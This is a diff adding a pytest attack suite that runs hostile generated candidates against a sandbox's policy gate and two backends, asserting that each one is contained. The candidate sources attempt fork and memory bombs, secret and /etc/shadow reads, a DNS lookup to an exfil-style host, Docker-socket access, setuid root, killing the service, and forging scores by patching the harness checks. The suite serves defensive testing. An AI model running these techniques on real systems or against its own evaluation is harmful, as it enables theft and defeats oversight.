@@ -1,0 +1,724 @@
+"""The attack suite: hostile candidates against both sandbox backends (issue 5).
+
+Each attack is a candidate source written the way a generated one would be (a CNN-family
+module: `build_model(input_shape, num_classes)` / `train(model)`, the hostile part in
+`build_model`), and runs twice on each backend:
+
+* `test_attack_through_the_gate`: `sandbox.runner.run`, the policy gate first. Where
+  the gate rejects it, the expected rule is checked and nothing may start.
+* `test_attack_in_the_sandbox`: the gate bypassed (`backend.execute`), so that the
+  sandbox itself is what is tested.
+
+ATTACKS below is the table of expected outcomes: the gate's rule (None: it passes the
+gate) and, per backend, the recorded status in the sandbox ("refused": the job never
+reaches a sandbox, the schema turns it away). Each attack also has a check of what the
+trusted side observes (the server saw no connection, the token never came back, no
+process survived ...). After every run: no container or job directory is left, and
+the backend still runs a normal candidate (`test_backend_still_serves_after_the_attacks`).
+
+`deny` names the backends on which the attack is a confinement test: with
+SELFPROG_SABOTAGE=1 (confinement off, see sandbox/backends/base.py) those tests must
+FAIL; tests/attacks/test_sabotage.py checks that they do.
+
+SECURITY.md has this table with the results.
+"""
+from __future__ import annotations
+
+import hashlib
+import io
+import json
+import os
+import random
+import signal
+import struct
+import textwrap
+import uuid
+import zipfile
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Callable
+
+import pytest
+
+from sandbox import runner
+from sandbox.backends.base import check_safetensors
+from sandbox.backends.process import _processes
+from sandbox.schema import MAX_LOG_CHARS, Job, Limits, Result, SchemaError
+from tests.test_process_backend import TINY
+
+BACKENDS = ("process", "docker")
+SABOTAGE = os.environ.get("SELFPROG_SABOTAGE") == "1"
+DOCKER_SOCKET = Path("/var/run/docker.sock")
+HOST_SHADOW = Path("/etc/shadow")
+FORGED = 1e-06                      # the score every forgery claims
+
+
+# --------------------------------------------------------------------------- sources
+
+def cnn_source(prelude: str, body: str, tail: str = "") -> str:
+    """A CNN-family candidate whose build_model runs `body` first."""
+    return (textwrap.dedent(prelude).strip() + "\nimport torch\nfrom torch import nn\n\n\n"
+            "def build_model(input_shape, num_classes):\n"
+            + textwrap.indent("\n".join(textwrap.dedent(piece).strip("\n")
+                                         for piece in body.split("\x01")).strip() + "\n", "    ")
+            + "    return nn.Sequential(nn.Flatten(), nn.Linear(16, num_classes))\n\n\n"
+            "def train(model):\n    return torch.optim.SGD(model.parameters(), lr=0.1), 8\n"
+            + textwrap.dedent(tail))
+
+
+# Appended to a body; cnn_source dedents the pieces around \x01 separately.
+REPORT = '\x01raise RuntimeError("REPORT " + json.dumps(r))\n'
+
+
+def report(result: Result) -> dict:
+    """The dict an attack sent back as `RuntimeError("REPORT {json}")`."""
+    assert "REPORT " in result.reason, (result.status, result.reason, result.logs[-3000:])
+    raw = result.reason.split("REPORT ", 1)[1]
+    return json.loads(raw[:raw.rindex("}") + 1])
+
+
+@dataclass
+class Ctx:
+    """What one attack run aims at and what this side observed."""
+    host: object
+    backend_name: str
+    tcp: object = None
+    udp: object = None
+    marker: str = ""
+    target_dir: Path | None = None
+    out_dir: Path | None = None
+    extra: dict = field(default_factory=dict)
+
+
+@dataclass(frozen=True)
+class Attack:
+    name: str
+    source: Callable[[Ctx], str | bytes]
+    gate: str | None                       # the policy rule that rejects it; None: passes
+    expect: dict                           # backend -> status ("refused": never starts)
+    check: Callable[[Ctx, Result], None] = lambda ctx, r: None
+    deny: frozenset = frozenset()          # backends where this is a confinement test
+    kind: str = "evaluate"
+    model_kind: str = "cnn"
+    limits: dict = field(default_factory=dict)
+    needs: tuple = ()                      # "tcp", "udp", "target", "weights_bomb", ...
+    residual: str = ""                     # a documented residual risk: xfail(strict)
+
+
+def both(status: str) -> dict:
+    return {"process": status, "docker": status}
+
+
+# --------------------------------------------------------------------------- checks
+
+def _no_token(ctx: Ctx, r: Result) -> None:
+    assert ctx.host.token not in r.reason + r.logs, "a planted secret came back"
+
+
+def check_fork(ctx, r):
+    assert "FORKED" in r.reason and "without" not in r.reason, r.reason
+    assert int(r.reason.split("FORKED ")[1].split()[0]) < 32, r.reason
+
+
+def check_connect(ctx, r):
+    rep = report(r)
+    assert not ctx.tcp.accepted, f"the sandbox reached this host: {ctx.tcp.accepted}"
+    assert "CONNECTED" not in rep.values(), rep
+
+
+def check_dns(ctx, r):
+    rep = report(r)
+    assert not ctx.udp.accepted, f"a DNS query reached this host: {ctx.udp.accepted}"
+    assert rep["getaddrinfo"].startswith("failed"), rep
+
+
+def check_all_denied(ctx, r):
+    rep = report(r)
+    assert all(str(v).startswith("DENIED") for v in rep.values()), rep
+    _no_token(ctx, r)
+
+
+def check_env(ctx, r):
+    rep = report(r)
+    assert not rep["leak"], rep["leak"]
+    assert "SELFPROG_TEST_ATTACK_SECRET" not in rep["names"], rep["names"]
+    _no_token(ctx, r)
+
+
+def check_host_files(ctx, r):
+    """The planted 0600 secret, the lineage DB (0600, as LineageStore makes it) and the
+    host's /etc/shadow: none may be read (the container's own /etc/shadow does not count)."""
+    rep = report(r)
+    for path in (ctx.host.secret, ctx.host.lineage_db):
+        for p in (str(path), "/host" + str(path)):
+            assert rep[p].startswith("DENIED"), (p, rep[p])
+    if HOST_SHADOW.exists():
+        real = hashlib.sha256(HOST_SHADOW.read_bytes()[:4096]).hexdigest()[:16]
+        assert not any(real in v for v in rep.values()), "the host's /etc/shadow was read"
+    _no_token(ctx, r)
+
+
+def check_writes(ctx, r):
+    check_all_denied(ctx, r)
+    assert sorted(p.name for p in ctx.target_dir.iterdir()) == ["victim.txt"]
+    assert (ctx.target_dir / "victim.txt").read_text() == "unchanged"
+
+
+def check_disk(ctx, r):
+    assert "DISK STOPPED" in r.reason, r.reason
+    assert int(r.reason.split("after ")[1].split()[0]) <= 8, r.reason
+
+
+def check_flood(ctx, r):
+    assert len(r.logs) <= MAX_LOG_CHARS
+    if ctx.backend_name == "process":       # RLIMIT_FSIZE stops the writes themselves
+        assert "FLOOD STOPPED" in r.reason, r.reason
+    else:                                   # the log driver keeps 1 MB; the tail is bounded
+        assert "FLOOD" in r.reason, r.reason
+
+
+def check_ctypes(ctx, r):
+    rep = report(r)
+    assert rep["setuid0"] != 0 and rep["euid"] != 0, rep
+    print(f"ctypes on {ctx.backend_name}: {rep}")   # unshare(CLONE_NEWUSER): see SECURITY.md
+
+
+def check_signal(ctx, r):
+    rep = report(r)
+    assert rep["probe"].startswith("DENIED"), rep
+    assert rep["kill"].startswith("DENIED"), rep
+    os.kill(ctx.host.service_pid, 0)        # and we are alive
+
+
+def _marked(marker: str) -> list[int]:
+    needle = f"sleep\0{marker}\0".encode()
+    found = []
+    for pid, _ in _processes():
+        try:
+            with open(f"/proc/{pid}/cmdline", "rb") as f:
+                if f.read() == needle:
+                    found.append(pid)
+        except OSError:
+            pass
+    return found
+
+
+def check_background(ctx, r):
+    assert not _marked(ctx.marker), "a background process of the candidate survived the run"
+
+
+def check_real_score(ctx, r):
+    assert r.score is not None and r.score != FORGED and r.score > 0.05, r
+
+
+def check_forged_file(ctx, r):
+    assert r.score is None and "seal" in r.reason, r
+
+
+def check_not_forged(ctx, r):
+    assert r.score != FORGED, r
+    if r.status == "crashed":
+        assert "seal" in r.reason or "symlink" in r.reason, r.reason
+    else:
+        check_real_score(ctx, r)
+
+
+def check_tampered(ctx, r):
+    assert "trusted code may not be modified" in r.reason, r.reason
+
+
+def check_exit0(ctx, r):
+    assert "without a valid result" in r.reason, r.reason
+
+
+def check_huge(ctx, r):
+    assert "non-finite" in r.reason or "out of bounds" in r.reason, r.reason
+
+
+def check_outputs(ctx, r):
+    w = ctx.out_dir / "weights.safetensors"
+    assert w.is_file() and not w.is_symlink()
+    with open(w, "rb") as f:
+        assert check_safetensors(f, w.stat().st_size) == ""
+    assert sorted(p.name for p in ctx.out_dir.iterdir()) == ["weights.safetensors"]
+    assert ctx.host.victim.read_text() == "unchanged"
+    assert ctx.host.token.encode() not in w.read_bytes()
+
+
+def check_swapped_outputs(ctx, r):
+    for p in ctx.out_dir.iterdir() if ctx.out_dir.exists() else []:
+        assert not p.is_symlink() and ctx.host.token.encode() not in p.read_bytes()
+    if r.status == "ok":
+        check_outputs(ctx, r)
+    else:
+        assert "symlink" in r.reason or "seal" in r.reason, r.reason
+
+
+# --------------------------------------------------------------------------- the table
+
+def _reads(paths: str, mode: str = "rb") -> str:
+    return f"""
+r = {{}}
+for p in {paths}:
+    try:
+        with open(p, "{mode}") as f:
+            data = f.read(4096)
+        r[p] = "READ " + hashlib.sha256(data).hexdigest()[:16] + " " + repr(data[:40])
+    except OSError as e:
+        r[p] = "DENIED " + type(e).__name__
+"""
+
+
+ATTACKS = [
+    Attack("fork_bomb", lambda c: cnn_source("import os, time", """
+        forked = 0
+        try:
+            for _ in range(150):
+                if os.fork() == 0:
+                    time.sleep(30)
+                    os._exit(0)
+                forked += 1
+        except OSError as e:
+            raise RuntimeError(f"FORKED {forked} then {type(e).__name__}")
+        raise RuntimeError(f"FORKED {forked} without hitting a limit")
+        """), "import", both("invalid"), check_fork, frozenset(BACKENDS), limits={"pids": 32}),
+    Attack("memory_bomb", lambda c: cnn_source("", """
+        hog = []
+        touched = 0
+        for _ in range(48):                       # 12 GB of address space at most ...
+            t = torch.empty(256 * 1024 * 1024, dtype=torch.uint8)
+            if touched < 2048:                    # ... 2 GB of it resident (4x the limit)
+                t[::4096].fill_(1)
+                touched += 256
+            hog.append(t)
+        raise RuntimeError(f"ALLOCATED {len(hog) * 256} MB, touched {touched} MB")
+        """), None, both("oom"), deny=frozenset(BACKENDS), limits={"memory_mb": 512}),
+    Attack("cpu_spin", lambda c: cnn_source("", """
+        x = 1.0
+        while True:
+            x = x * 1.0000001 + 1e-9
+        """), None, both("timeout"), limits={"timeout_s": 3}),
+    Attack("loop_ignoring_sigterm_and_sigint", lambda c: cnn_source("import signal", """
+        signal.signal(signal.SIGTERM, signal.SIG_IGN)
+        signal.signal(signal.SIGINT, signal.SIG_IGN)
+        while True:
+            pass
+        """), "import", both("timeout"), limits={"timeout_s": 3}),
+    Attack("sleep_past_deadline", lambda c: cnn_source("import time", "time.sleep(3600)"),
+           "import", both("timeout"), limits={"timeout_s": 3}),
+    Attack("connect_to_loopback_server", lambda c: cnn_source("import json, socket", f"""
+        r = {{}}
+        for host in ("127.0.0.1", "localhost", "::1"):
+            try:
+                socket.create_connection((host, {c.tcp.port}), timeout=3).close()
+                r[host] = "CONNECTED"
+            except OSError as e:
+                r[host] = type(e).__name__
+        """ + REPORT), "import", both("invalid"), check_connect, frozenset(BACKENDS),
+        needs=("tcp",)),
+    Attack("dns_lookup", lambda c: cnn_source("import json, socket", f"""
+        r = {{}}
+        try:
+            r["getaddrinfo"] = str(socket.getaddrinfo("selfprog-exfil.example.com", 443)[0][4])
+        except OSError as e:
+            r["getaddrinfo"] = "failed " + type(e).__name__
+        query = (bytes.fromhex("abcd01000001000000000000") + bytes([4]) + b"leak"
+                 + bytes([7]) + b"example" + bytes([3]) + b"com" + bytes([0, 0, 1, 0, 1]))
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        s.settimeout(2)
+        try:
+            s.sendto(query, ("127.0.0.1", {c.udp.port}))
+            r["udp"] = "sent"
+            r["reply"] = s.recv(512).hex()
+        except OSError as e:
+            r["udp"] = type(e).__name__
+        """ + REPORT), "import", both("invalid"), check_dns, frozenset(BACKENDS), needs=("udp",)),
+    Attack("read_host_secret_files", lambda c: cnn_source(
+        "import hashlib, json", _reads(repr(tuple(
+            p for f in (c.host.secret, c.host.lineage_db, "/etc/shadow")
+            for p in (str(f), "/host" + str(f))))) + REPORT),
+        "import", both("invalid"), check_host_files, frozenset(BACKENDS)),
+    Attack("read_host_environment", lambda c: cnn_source("import json, os", """
+        r = {"leak": [k for k, v in os.environ.items() if v.startswith("tok-")],
+             "names": sorted(os.environ)}
+        """ + REPORT), "import", both("invalid"), check_env, frozenset(BACKENDS)),
+    Attack("use_docker_socket", lambda c: cnn_source("import json, socket", """
+        r = {}
+        for p in ("/var/run/docker.sock", "/run/docker.sock", "/host/var/run/docker.sock"):
+            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+            s.settimeout(3)
+            try:
+                s.connect(p)
+                s.sendall(b"GET /_ping HTTP/1.0" + bytes([13, 10, 13, 10]))
+                r[p] = "ANSWERED " + s.recv(200).decode(errors="replace")[:40]
+            except OSError as e:
+                r[p] = "DENIED " + type(e).__name__
+            finally:
+                s.close()
+        """ + REPORT), "import", both("invalid"), check_all_denied,
+        frozenset(BACKENDS) if DOCKER_SOCKET.exists() else frozenset()),
+    Attack("write_outside_scratch", lambda c: cnn_source("import json", f"""
+        r = {{}}
+        for p in {[str(c.target_dir / "new"), "/host" + str(c.target_dir / "new"),
+                   str(c.target_dir / "victim.txt"), "/host" + str(c.target_dir / "victim.txt"),
+                   "job.json", "lib/sandbox/harness.py", "in/data.safetensors", "in/new"]!r}:
+            try:
+                with open(p, "a") as f:
+                    f.write("x")
+                r[p] = "WROTE"
+            except OSError as e:
+                r[p] = "DENIED " + type(e).__name__
+        """ + REPORT), "import", both("invalid"), check_writes, frozenset(BACKENDS),
+        needs=("target",)),
+    Attack("fill_the_disk", lambda c: cnn_source("", """
+        written = 0
+        try:
+            with open("tmp/fill", "wb") as f:
+                for _ in range(32):
+                    f.write(bytes(1024 * 1024))
+                    f.flush()
+                    written += 1
+        except OSError as e:
+            raise RuntimeError(f"DISK STOPPED after {written} MB: {type(e).__name__}")
+        raise RuntimeError(f"DISK FILLED {written} MB")
+        """), "builtin-call", both("invalid"), check_disk, frozenset(BACKENDS),
+        limits={"output_mb": 8}),
+    Attack("flood_stdout_and_stderr", lambda c: cnn_source("import sys", """
+        chunk = "x" * (1024 * 1024)
+        done = 0
+        try:
+            for _ in range(24):
+                sys.stdout.write(chunk)
+                sys.stderr.write(chunk)
+                sys.stdout.flush()
+                sys.stderr.flush()
+                done += 1
+        except OSError as e:
+            raise RuntimeError(f"FLOOD STOPPED after {done} MB each: {type(e).__name__}")
+        raise RuntimeError(f"FLOOD COMPLETE {done} MB each")
+        """), "import", both("invalid"), check_flood, frozenset({"process"}),
+        limits={"output_mb": 8}),
+    Attack("subprocess_and_os_system", lambda c: cnn_source("import json, os, subprocess", f"""
+        r = {{}}
+        for p in ({str(c.host.secret)!r}, "/host" + {str(c.host.secret)!r}):
+            try:
+                out = subprocess.run(["cat", p], capture_output=True, timeout=10)
+                r["cat " + p] = ("READ " if out.returncode == 0 else "DENIED exit ") + \\
+                    out.stdout.decode(errors="replace")[:60]
+            except OSError as e:
+                r["cat " + p] = "DENIED " + type(e).__name__
+        os.system("cat {c.host.secret} /host{c.host.secret} > tmp/leak 2>/dev/null")
+        with open("tmp/leak", "rb") as f:
+            leaked = f.read(100).decode(errors="replace")
+        r["os.system"] = ("READ " + leaked) if leaked else "DENIED (nothing read)"
+        """ + REPORT), "import", both("invalid"), check_all_denied, frozenset(BACKENDS)),
+    Attack("ctypes_setuid_root", lambda c: cnn_source("import ctypes, json, os", """
+        libc = ctypes.CDLL(None, use_errno=True)
+        r = {"setuid0": libc.setuid(0), "errno": ctypes.get_errno(), "euid": os.geteuid()}
+        r["unshare_newuser"] = libc.unshare(0x10000000)
+        """ + REPORT), "import", both("invalid"), check_ctypes, frozenset(BACKENDS)),
+    Attack("signal_the_service", lambda c: cnn_source("import json, os, signal", f"""
+        r = {{}}
+        try:
+            os.kill({c.host.service_pid}, 0)       # may we signal the service at all?
+            r["probe"] = "PERMITTED"
+            r["kill"] = "not sent (the probe was permitted)"
+        except OSError as e:
+            r["probe"] = "DENIED " + type(e).__name__
+            try:
+                os.kill({c.host.service_pid}, signal.SIGKILL)
+                r["kill"] = "SENT"
+            except OSError as e:
+                r["kill"] = "DENIED " + type(e).__name__
+        """ + REPORT), "import", both("invalid"), check_signal, frozenset(BACKENDS)),
+    Attack("leave_background_process", lambda c: cnn_source("import os", f"""
+        if os.fork() == 0:
+            os.setsid()
+            if os.fork() == 0:
+                os.execv("/bin/sleep", ["sleep", "{c.marker}"])
+            os._exit(0)
+        """), "import", both("ok"), check_background, frozenset({"process"}),
+        needs=("marker",)),
+    Attack("print_fake_result_json", lambda c: cnn_source("", f"""
+        print('{{"job_id": "x", "kind": "evaluate", "status": "ok", "score": {FORGED}}}')
+        print("score: {FORGED}")
+        """), None, both("ok"), check_real_score),
+    Attack("write_result_file_and_exit_0", lambda c: cnn_source("import json, os", f"""
+        job = json.loads(open("job.json").read())
+        forged = {{"job_id": job["job_id"], "kind": job["kind"], "status": "ok",
+                  "score": {FORGED}, "losses": [{FORGED}]}}
+        with open("out/result.json", "w") as f:
+            f.write(json.dumps(forged))
+        with open("out/result.seal", "w") as f:
+            f.write("0" * 64)
+        os._exit(0)
+        """), "import", both("crashed"), check_forged_file),
+    Attack("rewrite_result_after_the_harness", lambda c: cnn_source("import json, os, time", f"""
+        if os.fork() == 0:
+            for _ in range(30000):
+                try:
+                    with open("out/result.json") as f:
+                        real = json.loads(f.read())
+                    real["score"] = {FORGED}
+                    with open("out/result.json", "w") as f:
+                        f.write(json.dumps(real))
+                    os._exit(0)
+                except (OSError, ValueError):
+                    time.sleep(0.0005)
+            os._exit(0)
+        """), "import", {"process": "crashed|ok", "docker": "crashed|ok"}, check_not_forged),
+    Attack("monkeypatch_the_loss", lambda c: cnn_source("import torch.nn.functional as F", """
+        def fake_loss(*args, **kwargs):
+            return torch.zeros((), requires_grad=True)
+        F.cross_entropy = fake_loss
+        """), "attribute-store", both("invalid"), check_tampered),
+    Attack("monkeypatch_torch", lambda c: cnn_source("", """
+        def zero(self):
+            return 0.0
+        torch.Tensor.item = zero
+        torch.isfinite = lambda t: torch.tensor(True)
+        """), "attribute-store", both("invalid"), check_tampered),
+    Attack("disable_the_harness_checks", lambda c: cnn_source("import sys", f"""
+        h = sys.modules["sandbox.harness"]
+        h._Integrity.check = lambda self: None
+        h._mean = lambda xs: {FORGED}
+        """), "import", both("invalid"), check_tampered,
+        residual="in-process code that reaches the harness module can switch its checks off "
+                 "and report any score; only the gate (no sys/importlib/gc/frames) stops it"),
+    Attack("exit_early_os_exit_0", lambda c: cnn_source("import os", "os._exit(0)"),
+           "import", both("crashed"), check_exit0),
+    Attack("exit_early_system_exit_0", lambda c: cnn_source("", "raise SystemExit(0)"),
+           None, both("invalid"), lambda c, r: None),
+    Attack("nan_weights", lambda c: cnn_source("", """
+        model = nn.Sequential(nn.Flatten(), nn.Linear(16, num_classes))
+        nn.init.constant_(model[1].weight, float("nan"))
+        return model
+        """), None, both("invalid"), lambda c, r: None),
+    Attack("huge_logits", lambda c: cnn_source("", """
+        model = nn.Sequential(nn.Flatten(), nn.Linear(16, num_classes))
+        with torch.no_grad():
+            model[1].weight[0].fill_(1e30)
+            model[1].weight[1].fill_(-1e30)
+        return model
+        """), None, both("invalid"), check_huge),
+    Attack("nul_byte", lambda c: cnn_source("# \x00", "pass"), "encoding", both("refused")),
+    Attack("lone_surrogate", lambda c: cnn_source("# \udc80", "pass"), "encoding",
+           both("refused")),
+    Attack("invalid_utf8_bytes", lambda c: b"\xff\xfe" + cnn_source("", "pass").encode(),
+           "encoding", both("refused")),
+    Attack("enormous_source", lambda c: cnn_source("# " + "x" * 2_000_000, "pass"), "size",
+           both("refused")),
+    Attack("deeply_nested_ast", lambda c: cnn_source("x = " + "-" * 30000 + "1", "pass"),
+           "nesting", both("invalid"), lambda c, r: None),
+    Attack("malformed_weights_header_bomb", lambda c: TINY, None, both("invalid"),
+           kind="generate", model_kind="t5", needs=("weights_header_bomb",)),
+    Attack("symlinks_and_junk_in_the_output", lambda c: cnn_source("import os", f"""
+        os.symlink({str(c.host.victim)!r}, "out/weights.safetensors")
+        os.symlink({str(c.host.victim)!r}, "out/.weights.safetensors.tmp")
+        os.symlink({str(c.host.secret)!r}, "out/extra.safetensors")
+        with open("out/junk.safetensors", "wb") as f:
+            f.write((10 ** 12).to_bytes(8, "little") + b"{{")
+        """), "import", both("ok"), check_outputs, kind="train_lm"),
+    Attack("swap_weights_for_a_symlink_after_the_harness", lambda c: cnn_source("import os, time", f"""
+        if os.fork() == 0:
+            for _ in range(30000):
+                if os.path.exists("out/result.json"):
+                    os.unlink("out/weights.safetensors")
+                    os.symlink({str(c.host.secret)!r}, "out/weights.safetensors")
+                    os._exit(0)
+                time.sleep(0.0005)
+            os._exit(0)
+        """), "import", {"process": "crashed|ok", "docker": "crashed|ok"}, check_swapped_outputs,
+        kind="train_lm"),
+]
+BY_NAME = {a.name: a for a in ATTACKS}
+assert len(BY_NAME) == len(ATTACKS)
+
+
+# --------------------------------------------------------------------------- running
+
+def _params(deny_marks: bool = True):
+    out = []
+    for a in ATTACKS:
+        for b in BACKENDS:
+            marks = [pytest.mark.docker] if b == "docker" else []
+            if deny_marks and b in a.deny:
+                marks.append(pytest.mark.deny)
+            out.append(pytest.param(a, b, id=f"{a.name}-{b}", marks=marks))
+    return out
+
+
+def _header_bomb(path: Path) -> Path:
+    header = json.dumps({"w": {"dtype": "F32", "shape": [1 << 20, 1 << 20],
+                               "data_offsets": [0, 1 << 42]}}).encode()
+    path.write_bytes(struct.pack("<Q", len(header)) + header + bytes(16))
+    return path
+
+
+def _zip_bomb(path: Path) -> Path:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("archive/data.pkl", bytes(256 * 1024 * 1024))   # ~250 KB compressed
+    path.write_bytes(buf.getvalue())
+    return path
+
+
+def _t5_data(tmp_path: Path) -> Path:
+    import torch
+    from safetensors.torch import save_file
+    g = torch.Generator().manual_seed(0)
+    p = tmp_path / "t5.safetensors"
+    save_file({"input_ids": torch.randint(2, 60, (4, 6), generator=g),
+               "attention_mask": torch.ones(4, 6, dtype=torch.int64),
+               "labels": torch.randint(2, 60, (4, 4), generator=g)}, str(p))
+    return p
+
+
+def make_ctx(attack: Attack, backend_name: str, request, host, tmp_path: Path) -> Ctx:
+    ctx = Ctx(host=host, backend_name=backend_name, out_dir=tmp_path / "out")
+    if "tcp" in attack.needs:
+        ctx.tcp = request.getfixturevalue("tcp_server")
+    if "udp" in attack.needs:
+        ctx.udp = request.getfixturevalue("udp_server")
+    if "marker" in attack.needs:
+        ctx.marker = f"{random.randint(5000, 9999)}.{random.randint(10**8, 10**9)}"
+    if "target" in attack.needs:
+        d = host.dir / f"target-{uuid.uuid4().hex[:8]}"
+        d.mkdir(mode=0o755)
+        os.chmod(d, 0o755)
+        (d / "victim.txt").write_text("unchanged")
+        os.chmod(d / "victim.txt", 0o644)
+        ctx.target_dir = d
+    return ctx
+
+
+def make_job(attack: Attack, ctx: Ctx, cnn_data: Path, tmp_path: Path) -> Job:
+    lim = {"timeout_s": 60, "memory_mb": 1024, "pids": 64, "output_mb": 16, **attack.limits}
+    if attack.model_kind == "t5":
+        params = {"vocab_size": 64, "n": 1, "max_new_tokens": 4, "prompt_ids": [5, 6, 7]}
+        inputs = {"data": str(_t5_data(tmp_path))}
+        if "weights_header_bomb" in attack.needs:
+            inputs["weights"] = str(_header_bomb(tmp_path / "bomb.safetensors"))
+        if "weights_zip_bomb" in attack.needs:
+            inputs["weights"] = str(_zip_bomb(tmp_path / "zip.safetensors"))
+    else:
+        params = {"num_classes": 2, "input_shape": [1, 4, 4], "epochs": 1}
+        inputs = {"data": str(cnn_data)}
+    # Not validated here: some attacks are jobs the schema must refuse.
+    return Job(job_id=f"atk-{attack.name[:40]}-{uuid.uuid4().hex[:8]}", kind=attack.kind,
+               source=attack.source(ctx), model_kind=attack.model_kind, inputs=inputs,
+               params=params, limits=Limits(**lim))
+
+
+def leftovers(backend_name: str, sandbox, job: Job) -> list[str]:
+    """What a finished run must not leave behind: containers, job dirs, processes."""
+    left = [p.name for p in Path(sandbox.workroot).iterdir()] if Path(sandbox.workroot).exists() else []
+    if backend_name == "docker":
+        from sandbox.backends.docker import LABEL_JOB
+        left += [c.name for c in sandbox.client.containers.list(
+            all=True, filters={"label": f"{LABEL_JOB}={job.job_id}"})]
+    elif sandbox.last_run is not None and sandbox.last_run.uid is not None:
+        left += [f"pid {pid}" for pid, u in _processes() if u == sandbox.last_run.uid]
+    return left
+
+
+def execute_and_check(attack: Attack, backend_name: str, sandbox, ctx: Ctx, job: Job,
+                      through_gate: bool) -> Result:
+    expected = attack.expect[backend_name]
+    started = []
+
+    class Counting:   # the real backend; only counts that a sandbox was asked for
+        def execute(self, job, out_dir):
+            started.append(job.job_id)
+            return sandbox.execute(job, out_dir)
+
+    try:
+        if expected == "refused":
+            with pytest.raises(SchemaError):
+                Counting().execute(job, ctx.out_dir)
+            return None
+        result = (runner.run(job, ctx.out_dir, Counting()) if through_gate
+                  else Counting().execute(job, ctx.out_dir))
+        assert result.status in expected.split("|"), (attack.name, result.status, result.reason,
+                                                      result.logs[-2000:])
+        assert result.reason or result.status == "ok", "a failure must carry its reason"
+        attack.check(ctx, result)
+        return result
+    finally:
+        left = leftovers(backend_name, sandbox, job)
+        if ctx.marker:                           # never leave an escapee running here
+            for pid in _marked(ctx.marker):
+                os.kill(pid, signal.SIGKILL)
+        assert not left, f"left behind: {left}"
+
+
+@pytest.mark.parametrize("attack,backend_name", _params())
+def test_attack_in_the_sandbox(attack, backend_name, sandbox, request, host, cnn_data, tmp_path,
+                               monkeypatch):
+    """The gate bypassed: the sandbox alone must contain the attack."""
+    if attack.residual:
+        request.applymarker(pytest.mark.xfail(strict=True, reason="documented residual risk "
+                                              "(SECURITY.md): " + attack.residual))
+    monkeypatch.setenv("SELFPROG_TEST_ATTACK_SECRET", host.token)
+    ctx = make_ctx(attack, backend_name, request, host, tmp_path)
+    execute_and_check(attack, backend_name, sandbox, ctx,
+                      make_job(attack, ctx, cnn_data, tmp_path), through_gate=False)
+
+
+@pytest.mark.parametrize("attack,backend_name", _params(deny_marks=False))
+def test_attack_through_the_gate(attack, backend_name, sandbox, request, host, cnn_data, tmp_path,
+                                 monkeypatch):
+    """The full path (`runner.run`): the gate's rule where it rejects, else the sandbox."""
+    monkeypatch.setenv("SELFPROG_TEST_ATTACK_SECRET", host.token)
+    ctx = make_ctx(attack, backend_name, request, host, tmp_path)
+    job = make_job(attack, ctx, cnn_data, tmp_path)
+    if attack.gate is None:
+        execute_and_check(attack, backend_name, sandbox, ctx, job, through_gate=True)
+        return
+    started = []
+
+    class Counting:
+        def execute(self, job, out_dir):
+            started.append(job.job_id)
+            return sandbox.execute(job, out_dir)
+
+    result = runner.run(job, ctx.out_dir, Counting())
+    assert result.status == "rejected", (result.status, result.reason)
+    assert result.reason.startswith(attack.gate + ":"), result.reason
+    assert not started, "a rejected candidate reached the sandbox"
+
+
+@pytest.mark.sabotage_control
+@pytest.mark.parametrize("backend_name", [pytest.param("process"),
+                                          pytest.param("docker", marks=pytest.mark.docker)])
+def test_backend_still_serves_after_the_attacks(backend_name, sandbox, cnn_data, tmp_path):
+    """Normal behaviour: after everything above, a plain candidate still scores."""
+    job = Job(job_id=f"benign-{uuid.uuid4().hex[:8]}", kind="evaluate",
+              source=cnn_source("", "pass"), model_kind="cnn", inputs={"data": str(cnn_data)},
+              params={"num_classes": 2, "input_shape": [1, 4, 4], "epochs": 1, "score": "accuracy"},
+              limits=Limits(timeout_s=60, memory_mb=1024, pids=64, output_mb=16)).validate()
+    result = runner.run(job, tmp_path / "out", sandbox)
+    assert result.status == "ok", (result.reason, result.logs[-2000:])
+    assert 0 <= result.score <= 1 and result.param_count == 34
+    assert not leftovers(backend_name, sandbox, job)
+
+
+@pytest.mark.parametrize("make", [lambda p: _zip_bomb(p), lambda p: _header_bomb(p)],
+                         ids=["zip_bomb", "header_bomb"])
+def test_bombs_where_weights_are_expected_are_refused_by_collect(make, tmp_path, cnn_data):
+    """A train_lm result that declares a zip bomb (torch.save's format) or a header that
+    promises terabytes as its weights: the trusted side reads only the 8-byte length
+    and the header, refuses it, and copies nothing (no decompression, no allocation)."""
+    import shutil
+    from sandbox.backends.base import collect, stage
+    job = Job(job_id="bomb", kind="train_lm", source=cnn_source("", "pass"), model_kind="cnn",
+              inputs={"data": str(cnn_data)},
+              params={"num_classes": 2, "input_shape": [1, 4, 4]}).validate()
+    jobdir = stage(job, tmp_path / "w")
+    shutil.copyfile(make(tmp_path / "bomb.bin"), jobdir / "out" / "weights.safetensors")
+    (jobdir / "out" / "result.json").write_text(json.dumps(
+        {"job_id": "bomb", "kind": "train_lm", "status": "ok", "outputs": ["weights.safetensors"]}))
+    r = collect(job, jobdir, tmp_path / "dest", exit_code=0, timed_out=False, oom_killed=False,
+                stdout_tail=b"", stderr_tail=b"", duration_s=1.0)
+    assert r.status == "crashed" and "weights.safetensors" in r.reason, r
+    assert not (tmp_path / "dest").exists() or not any((tmp_path / "dest").iterdir())
